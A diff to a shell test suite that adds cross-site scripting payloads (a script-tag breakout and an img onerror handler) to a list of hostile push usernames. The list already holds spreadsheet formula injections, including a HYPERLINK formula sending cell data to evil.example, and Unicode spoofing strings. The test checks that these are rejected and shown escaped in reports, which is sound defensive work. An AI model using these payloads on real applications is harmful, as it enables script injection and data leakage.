@@ -188,12 +188,14 @@ test_hostile_pusher_in_views() {
 	new_repo || return
 	local c u
 	c=$(commit a.txt one)
-	for u in "$XSS" "$FORMULA" "@SUM(1+1)" "+1-2" "-2+3" "ad${BIDI}min" "ad${ZW}min" "ad${TAGS}min"; do
+	for u in "$XSS" "<script>alert(1)</script>\"onmouseover=\"alert(2)" "<img/src=x/onerror=alert(3)>" "$FORMULA" "@SUM(1+1)" "+1-2" "-2+3" "ad${BIDI}min" "ad${ZW}min" "ad${TAGS}min"; do
 		REMOTE_USER=$u git -C "$W" push origin "$c:refs/heads/test" >"$T/out" 2>&1 && fail "accepted for '$u'"
 		check "'$u': remote lines are clean" hidden "$(remote_lines)"
 	done
 	views_safe "pushers" "$(last_push_id)"
 	check "the chart names the login escaped" grep -qF '=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1' "$T/report.html"
+	check "the chart names the markup login escaped" grep -qF '&lt;script&gt;alert(1)&lt;/script&gt;&quot;onmouseover=&quot;alert(2)' "$T/report.html"
+	check "no unescaped <img" not grep -q '<img' "$T/report.html"
 	check "the zero-width login is visible" grep -qF 'ad\u200b\u200d\u2060\ufeffmin' "$T/list"
 	check "the tag-character login is visible" grep -qF 'ad\U000e0061\U000e0064min' "$T/list"
 }
